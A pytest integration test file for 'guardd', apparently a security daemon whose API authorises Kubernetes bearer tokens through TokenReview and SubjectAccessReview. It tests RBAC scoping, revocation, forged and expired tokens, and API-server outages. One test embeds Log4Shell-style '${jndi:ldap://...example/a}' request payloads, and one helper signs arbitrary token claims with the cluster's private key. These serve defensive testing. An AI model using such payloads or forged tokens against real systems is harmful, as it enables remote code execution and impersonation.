# SPDX-License-Identifier: Apache-2.0
"""People and programs of a cluster at guardd's API, by their bearer tokens: a real kube-apiserver says who they are and what they may."""

import base64
import concurrent.futures
import json
import os
import pathlib
import signal
import subprocess
import sys
import time

import pytest
import yaml

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "api"))
from harness import BIN, end_process  # noqa: E402
from kubernetes.api_relay import Relay  # noqa: E402
from kubernetes.apicluster import CRDS  # noqa: E402
from kubernetes.operators import shipped_rights, token_of, wait_for, wait_rights  # noqa: E402
from talking import connect, curl  # noqa: E402

KEEP_S = 3
GUARDIAN = "apiVersion: guard/v1alpha1\nkind: Guardian\nservice: {}\ncontrol: {{mode: observe}}\n"


class Server:
    def __init__(self, cluster, folder, kubeconfig, *options, keep_s=KEEP_S):
        self.cluster, self.state = cluster, folder / "state"
        (self.state / "guardians").mkdir(parents=True)
        self.log_path = folder / "guardd.log"
        with open(self.log_path, "wb") as log:
            self.process = subprocess.Popen(
                cluster.command(BIN / "guardd", "--state", self.state, "--access-reviews", kubeconfig, "--access-keep", f"{keep_s}s",
                                *options), stderr=log, env=cluster.env)
        wait_for(lambda: self.said("started") or self.process.poll() is not None, "guardd to start")
        assert self.process.poll() is None, self.log()

    def log(self):
        return self.log_path.read_text()

    def said(self, event):
        return [json.loads(line).get("detail", True) for line in self.log().splitlines() if f'"event":"{event}"' in line]

    def serves(self, *names):
        for name in names:
            (self.state / "guardians" / f"{name}.yaml").write_text(GUARDIAN.format(name))
        wait_for(lambda: all(curl(self.state, f"/services/{name}").status == 200 for name in names), "the services")

    def ask(self, token, path, *options):
        return curl(self.state, path, "-H", f"Authorization: Bearer {token}", *options)

    def status(self, token, path):
        return self.ask(token, path).status

    def set_mode(self, token, service, mode):
        return self.ask(token, f"/services/{service}/mode", "-X", "PUT", "-H", "Content-Type: application/json", "-d",
                        json.dumps({"mode": mode, "reason": "a test"}))


def access_rights(cluster, folder):
    """Of the service account with the rights that are shipped for this."""
    done = cluster.kubectl("apply", "-f", CRDS / "access-reviews.yaml")
    assert done.status == 0, done.err
    kubeconfig = shipped_rights(cluster, folder)  # the account, too
    wait_rights(cluster, "guard-system:guardd", ("create", "subjectaccessreviews"))
    return kubeconfig


def may(cluster, namespace, account, *verbs, name=None, decisions=False):
    """A Role and its binding for a service account of the namespace; its token."""
    rule = {"apiGroups": ["guard.security"], "resources": ["guardians"], "verbs": list(verbs), **({"resourceNames": [name]} if name else {})}
    rules = [rule, *([{**rule, "resources": ["guardians/decisions"], "verbs": ["update"]}] if decisions else [])]
    of_it = {"metadata": {"name": account, "namespace": namespace}}
    objects = [{"apiVersion": "v1", "kind": "ServiceAccount", **of_it},
               {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role", **of_it, "rules": rules},
               {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding", **of_it,
                "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": account},
                "subjects": [{"kind": "ServiceAccount", "name": account, "namespace": namespace}]}]
    assert cluster.kubectl("apply", "-f", "-", text=json.dumps({"apiVersion": "v1", "kind": "List", "items": objects})).status == 0
    # An API server goes by what it has heard of: a denial before that would be kept.
    what, verb = f"guardians/{name}" if name else "guardians", "administer" if verbs[0] == "*" else verbs[0]
    wait_for(lambda: cluster.may(f"{namespace}:{account}", verb, what, namespace), "the binding to count")
    return token_of(cluster, namespace, account)


@pytest.fixture(scope="module")
def rights(api_cluster, tmp_path_factory):
    yield access_rights(api_cluster, tmp_path_factory.mktemp("rights"))
    api_cluster.kubectl("delete", "-f", CRDS / "access-reviews.yaml")  # others count the rights that guardd has without it


@pytest.fixture(scope="module")
def server(api_cluster, rights, tmp_path_factory):
    started = Server(api_cluster, tmp_path_factory.mktemp("access"), rights)
    yield started
    end_process(started.process)


@pytest.fixture
def far(api_cluster, rights, tmp_path):
    """The same behind a network that stands still, and is slow, as it is told to: started with how long what was said counts."""
    relay = Relay(api_cluster, tmp_path / "relay", rights)
    begun = []

    def start(keep_s=KEEP_S):
        (tmp_path / "far").mkdir()
        begun.append(Server(api_cluster, tmp_path / "far", relay.kubeconfig, keep_s=keep_s))
        begun[0].relay = relay
        return begun[0]
    yield start
    for one in begun:
        end_process(one.process)
    relay.stop()


@pytest.mark.parametrize("account, allowed", [("guardd", True), ("guard-webhook", False), ("default", False)])
def test_who_may_ask_what_others_may(api_cluster, server, account, allowed):
    for what in ("subjectaccessreviews.authorization.k8s.io", "tokenreviews.authentication.k8s.io"):
        done = api_cluster.kubectl("auth", "can-i", "create", what, "--as", f"system:serviceaccount:guard-system:{account}")
        assert done.out.strip().endswith("yes") == allowed, (what, done.out + done.err)
    done = api_cluster.kubectl("auth", "can-i", "list", what, "--as", f"system:serviceaccount:guard-system:{account}")
    assert done.out.strip().endswith("no")


def test_a_viewer_looks_and_an_operator_changes_each_in_their_namespace(api_cluster, namespace, server):
    shop, pay, other = f"{namespace}.shop", f"{namespace}.pay", "elsewhere.shop"
    server.serves(shop, pay, other)
    viewer = may(api_cluster, namespace, "viewer", "get", "list", "watch")
    operator = may(api_cluster, namespace, "operator", "get", "list", "watch", "update", "patch", "create")
    admin = may(api_cluster, namespace, "admin", "*")
    one = may(api_cluster, namespace, "one", "get", "update", name="pay")
    assert server.status(viewer, f"/services/{shop}") == 200
    assert server.status(viewer, f"/services/{shop}/guardian") == 200
    refused = server.set_mode(viewer, shop, "alert")
    assert refused.status == 403 and refused.json()["type"] == "urn:guard:problem:forbidden"
    assert f"update guardians.guard.security or guardians/decisions in the namespace {namespace}" in refused.json()["detail"]
    assert server.set_mode(operator, shop, "alert").status == 200
    for token in (viewer, operator, admin):
        assert server.status(token, f"/services/{other}") == 403
        assert server.set_mode(token, other, "block").status == 403
    # Lists have what is theirs, and nothing of others.
    assert sorted(one["service"] for one in server.ask(viewer, "/services").json()["services"]) == [pay, shop]
    assert server.status(viewer, "/alerts") == 200
    assert server.status(operator, "/audit") == 403 and server.status(admin, "/audit") == 200
    assert server.status(operator, "/tokens") == 403
    # A Role for one Guardian by its name.
    assert server.status(one, f"/services/{pay}") == 200 and server.status(one, f"/services/{shop}") == 403
    assert server.set_mode(one, pay, "alert").status == 200 and server.set_mode(one, shop, "alert").status == 403
    assert server.status(one, "/services") == 403
    # Who may it everywhere needs no namespace.
    api_cluster.kubectl("create", "clusterrolebinding", namespace, "--clusterrole=cluster-admin", f"--serviceaccount={namespace}:one")
    wait_for(lambda: server.status(one, f"/services/{other}") == 200, "the new binding to count")
    wait_for(lambda: server.status(one, "/tokens") == 200, "it to be an admin")
    # A session of a browser would outlive what the cluster says.
    refused = server.ask(admin, "/session", "-X", "POST")
    assert refused.status == 409 and refused.json()["type"] == "urn:guard:problem:no-entry", refused.body
    # The audit names them as the cluster does.
    lines = [json.loads(line) for line in (server.state / "audit.jsonl").read_text().splitlines()]
    mine = [line for line in lines if line["service"] == shop and line["action"] == "mode"]
    name = f"system:serviceaccount:{namespace}:operator"
    assert mine[-1]["by"] == f"user:{name}"[:64] and mine[-1]["subject"].startswith(f"{name} (system:serviceaccounts")
    log = server.log()
    assert all(token.split(".")[2] not in log for token in (viewer, operator, admin, one))
    # Who decides needs no right on the object, and has no other here.
    decider = may(api_cluster, namespace, "decider", "get", decisions=True)
    assert server.set_mode(decider, shop, "observe").status == 200 and server.set_mode(decider, other, "block").status == 403
    assert server.status(decider, f"/services/{shop}") == 200 and server.status(decider, "/audit") == 403


def test_a_binding_that_is_revoked_ends_with_what_was_said(api_cluster, namespace, server):
    service = f"{namespace}.shop"
    server.serves(service)
    token = may(api_cluster, namespace, "ann", "get", "list")
    assert server.status(token, f"/services/{service}") == 200
    begin = time.monotonic()
    assert api_cluster.kubectl("delete", "rolebinding", "ann", "-n", namespace).status == 0
    wait_for(lambda: server.status(token, f"/services/{service}") == 403, "it to be refused", timeout=60)
    print(f"refused {time.monotonic() - begin:.1f} s after the binding was deleted began; what was said counts for {KEEP_S} s")
    # And a token whose account is gone is nobody's.
    assert api_cluster.kubectl("delete", "serviceaccount", "ann", "-n", namespace).status == 0
    wait_for(lambda: server.status(token, f"/services/{service}") == 401, "it to be nobody's", timeout=60)


def sign(cluster, claims):
    """A token by the cluster's own key, of whatever it says."""
    def coded(data):
        return base64.urlsafe_b64encode(data).decode().rstrip("=")
    text = coded(b'{"alg":"RS256"}') + "." + coded(json.dumps(claims).encode())
    done = subprocess.run(["openssl", "dgst", "-sha256", "-sign", cluster.folder / "pki/sa.key"], input=text.encode(), capture_output=True,
                          check=True)
    return f"{text}.{coded(done.stdout)}"


def test_tokens_that_are_nobodys_are_refused(api_cluster, namespace, server):
    service = f"{namespace}.shop"
    server.serves(service)
    good = may(api_cluster, namespace, "ann", "get")
    path = f"/services/{service}"
    assert server.status(good, path) == 200
    head, payload, signature = good.split(".")
    claims = json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))
    ended = {**claims, "iat": 1700000000, "nbf": 1700000000, "exp": 1700003600}
    for token in (sign(api_cluster, ended), f"{head}.{payload}.{signature[:-4]}AAAA", "no-such-token", "abcdef.0123456789abcdef",
                  token_of(api_cluster, namespace, "ann", audience="vault")):
        answer = server.ask(token, path)
        assert answer.status == 401 and answer.headers["www-authenticate"].endswith('error="invalid_token"'), token
    # Our own audience is as good as the API server's, and never seen by it.
    assert server.status(token_of(api_cluster, namespace, "ann", audience="guard.security"), path) == 200
    assert server.status("a b", path) == 401
    # guardd's own tokens go on beside it.
    made = subprocess.run([BIN / "guard", "token", "add", "own", "--role", "viewer", "--state", server.state], capture_output=True,
                          text=True, check=True).stdout.split()[-1]
    assert server.status(made, path) == 200 and server.set_mode(made, service, "alert").status == 403


def test_the_command_comes_with_such_a_token(api_cluster, namespace, server, tmp_path):
    """`kubectl create token` into a file, and a context that names it; a new token is read with each run."""
    service = f"{namespace}.shop"
    server.serves(service)
    (tmp_path / "token").write_text(may(api_cluster, namespace, "ann", "get", "list"))
    (tmp_path / "token").chmod(0o600)

    def guard(*words):
        return subprocess.run([BIN / "guard", *words, "--server", f"unix:{server.state}/api.sock", "--token-file", tmp_path / "token"],
                              capture_output=True, text=True, check=False)
    done = guard("status")
    assert done.returncode == 0 and service in done.stdout, done.stderr
    done = guard("mode", "block", "--service", service)
    assert done.returncode != 0 and "namespace" in done.stderr, done.stdout + done.stderr


def test_without_rights_and_without_an_apiserver_nobody_comes_in(api_cluster, namespace, tmp_path):
    """An account that may review neither is told of; a killed API server denies with 503, and guardd's own tokens go on."""
    folder = tmp_path / "bare"
    folder.mkdir()
    api_cluster.kubectl("create", "serviceaccount", "bare", "-n", namespace)
    config = yaml.safe_load(shipped_rights(api_cluster, tmp_path / "rights").read_text())
    (folder / "token").write_text(token_of(api_cluster, namespace, "bare"))
    (folder / "kubeconfig").write_text(yaml.safe_dump(config))
    token = may(api_cluster, namespace, "ann", "get")
    bare = Server(api_cluster, folder, folder / "kubeconfig")
    try:
        answer = bare.ask(token, "/services")
        assert answer.status == 503 and answer.json()["type"] == "urn:guard:problem:token-not-checked"
        wait_for(lambda: bare.said("access-reviews-away"), "it to be told")
        assert "forbidden" in bare.said("access-reviews-away")[0] and "tokenreviews" in bare.said("access-reviews-away")[0]
        made = subprocess.run([BIN / "guard", "token", "add", "own", "--role", "viewer", "--state", bare.state], capture_output=True,
                              text=True, check=True).stdout.split()[-1]
        assert bare.status(made, "/services") == 200
    finally:
        end_process(bare.process)


def test_while_the_apiserver_is_away_its_users_are_refused(api_cluster, namespace, server):
    service = f"{namespace}.shop"
    server.serves(service)
    token = may(api_cluster, namespace, "ann", "get")
    made = subprocess.run([BIN / "guard", "token", "add", "away", "--role", "viewer", "--state", server.state], capture_output=True,
                          text=True, check=True).stdout.split()[-1]
    assert server.status(token, f"/services/{service}") == 200
    os.kill(int((api_cluster.folder / "pids/kube-apiserver").read_text().split()[0]), signal.SIGKILL)
    try:
        wait_for(lambda: server.status(token, f"/services/{service}") == 503, "it to be refused", timeout=60)
        answer = server.ask(token, f"/services/{service}")
        assert answer.headers["content-type"] == "application/problem+json" and int(answer.headers["retry-after"]) > 0
        assert answer.json()["type"] in ("urn:guard:problem:token-not-checked", "urn:guard:problem:access-not-checked")
        assert server.status(made, f"/services/{service}") == 200
    finally:
        done = api_cluster.up()
        assert done.status == 0, done.err
    wait_for(lambda: server.status(token, f"/services/{service}") == 200, "it to be let in again", timeout=60)
    assert server.said("access-reviews-back")


# --- while what was said runs out ---

def while_it_runs_out(server, token, method, path, meanwhile=lambda: None):
    """The answer to a request that waits for the cluster's word on what it may until that on whose the token is doesn't count any more;
    and how often the cluster was asked for the token since."""
    server.relay.hold("POST", "/subjectaccessreviews")
    with concurrent.futures.ThreadPoolExecutor() as pool:
        asked = pool.submit(server.ask, token, path, "-X", method)
        try:
            wait_for(server.relay.held, "it to wait for the cluster")
            # Whose the token is was asked for by now, also where a machine stood still for longer than that counts.
            before, begin = len(server.relay.passed("POST", "/tokenreviews")), time.monotonic()
            meanwhile()
            wait_for(lambda: time.monotonic() > begin + KEEP_S, "what was said of the token to run out")
        finally:
            server.relay.release()
        return asked.result(), len(server.relay.passed("POST", "/tokenreviews")) - before


def test_what_runs_out_while_the_cluster_is_asked_is_asked_for_again(api_cluster, namespace, far):
    """Who has a good token isn't told that it is a bad one."""
    server = far()
    shop = f"{namespace}.shop"
    server.serves(shop)
    admin = may(api_cluster, namespace, "admin", "*")
    assert server.status(admin, f"/services/{shop}") == 200
    answer, again = while_it_runs_out(server, admin, "POST", "/session")
    assert answer.status == 409 and answer.json()["type"] == "urn:guard:problem:no-entry", answer.body
    assert again == 1
    answer, again = while_it_runs_out(server, admin, "GET", "/audit?service=" + shop)
    assert answer.status == 200 and again == 1, (answer.body, again)


def test_who_is_nobody_any_more_by_then_is_told_so(api_cluster, namespace, far):
    """The cluster's word isn't stretched by waiting for another one."""
    server = far()
    shop = f"{namespace}.shop"
    server.serves(shop)
    token = may(api_cluster, namespace, "ann", "*")
    assert server.status(token, f"/services/{shop}") == 200

    def leave():
        """The API server itself believes for some seconds what it found out of a token."""
        assert api_cluster.kubectl("delete", "serviceaccount", "ann", "-n", namespace).status == 0
        review = {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenReview", "spec": {"token": token}}
        wait_for(lambda: not api_cluster.ask("POST", "/apis/authentication.k8s.io/v1/tokenreviews", review)["status"].get("authenticated"),
                 "it to be nobody's")
    answer, again = while_it_runs_out(server, token, "POST", "/session", leave)
    assert answer.status == 401 and answer.headers["www-authenticate"].endswith('error="invalid_token"') and again == 1, answer.body


def test_a_body_may_come_after_what_was_said(api_cluster, namespace, far):
    server = far()
    shop = f"{namespace}.shop"
    server.serves(shop)
    operator = may(api_cluster, namespace, "operator", "get", "update")
    body = json.dumps({"mode": "alert", "reason": "a test"}).encode()
    head = (f"PUT /api/v1/services/{shop}/mode HTTP/1.1\r\nHost: guardd\r\nAuthorization: Bearer {operator}\r\n"
            f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n").encode()
    assert server.status(operator, f"/services/{shop}") == 200
    with connect(server.state) as client:
        client.sendall(head)
        begin = time.monotonic()
        wait_for(lambda: time.monotonic() > begin + KEEP_S, "what was said of the token to run out")
        client.sendall(body)
        answer = b"".join(iter(lambda: client.recv(65536), b""))
    assert answer.startswith(b"HTTP/1.1 200 "), answer


def stop_child(server, asked):
    """As soon as it is there, which stands for one that takes long. None: it was done before."""
    listed = pathlib.Path(f"/proc/{server.process.pid}/task/{server.process.pid}/children")
    while not asked.done():
        for child in map(int, listed.read_text().split()):
            try:
                os.kill(child, signal.SIGSTOP)
                state = pathlib.Path(f"/proc/{child}/stat").read_text().rpartition(")")[2].split()[0]
            except (ProcessLookupError, FileNotFoundError):
                continue
            if state != "Z":
                return child
    return None


def test_what_an_answer_waits_for_goes_on_when_what_was_said_runs_out(api_cluster, namespace, server):
    """A proposal of a patch is a child's work; its answer comes to who may have it then."""
    shop = f"{namespace}.shop"
    server.serves(shop)
    operator = may(api_cluster, namespace, "operator", "get", "update")
    exploit = "".join(f"GET /s{i}/x?p=${{jndi:ldap://e{i}.example/a}} HTTP/1.1\r\nHost: shop.example\r\n\r\n" for i in range(40))

    def propose():
        return server.ask(operator, f"/services/{shop}/proposals", "--json", json.dumps({"exploit": exploit}))
    with concurrent.futures.ThreadPoolExecutor() as pool:
        def caught():
            asked = pool.submit(propose)
            child = stop_child(server, asked)
            return child and (asked, child)
        asked, child = wait_for(caught, "a child to be caught at its work")
        begin = time.monotonic()
        try:
            wait_for(lambda: time.monotonic() > begin + KEEP_S, "what was said to run out")
        finally:
            os.kill(child, signal.SIGCONT)
        answer = asked.result()
    assert answer.status == 200 and answer.json()["service"] == shop, answer.body


def test_a_cluster_that_is_slower_than_its_word_counts_for_cannot_be_asked(api_cluster, namespace, far):
    """And isn't asked again and again."""
    server = far(keep_s=1)
    shop = f"{namespace}.shop"
    server.serves(shop)
    token = may(api_cluster, namespace, "ann", "get")
    wait_for(lambda: server.status(token, f"/services/{shop}") == 200, "it to be let in, though a machine may be slow, too")
    server.relay.slow(1.2)
    wait_for(lambda: server.status(token, f"/services/{shop}") != 200, "what was said to run out")
    before = len(server.relay.passed("POST"))
    answer = server.ask(token, f"/services/{shop}")
    assert answer.status == 503 and answer.json()["type"] == "urn:guard:problem:access-not-checked", answer.body
    assert int(answer.headers["retry-after"]) > 0 and "www-authenticate" not in answer.headers
    assert len(server.relay.passed("POST")) - before <= 8
    server.relay.slow(0)
    wait_for(lambda: server.status(token, f"/services/{shop}") == 200, "it to be let in")
